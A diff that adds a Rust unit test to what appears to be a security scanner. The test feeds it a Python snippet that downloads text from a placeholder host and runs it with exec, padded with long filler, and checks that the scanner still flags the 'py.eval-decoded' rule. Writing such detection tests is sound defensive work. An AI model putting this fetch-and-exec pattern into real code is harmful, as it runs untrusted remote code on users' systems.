@@ -95,6 +95,16 @@ fn lists_and_maps_hold_what_was_put_into_them() {
 }
 
 #[test]
+fn a_text_that_is_too_long_to_be_joined_keeps_the_marks_of_all_its_parts() {
+    for length in [1, 17_000] {
+        let head = "import requests\nd = requests.get('http://e.example').text";
+        let review = look("python", &format!("{head}\nexec(f'{}{{d}}')\n", "a".repeat(length)));
+        let rules: Vec<_> = review.findings.iter().map(|finding| finding.rule.as_str()).collect();
+        assert!(rules.contains(&"py.eval-decoded"), "{length}: {rules:?}");
+    }
+}
+
+#[test]
 fn texts_and_paths_are_put_together_as_the_language_does() {
     assert_told(
         "python",
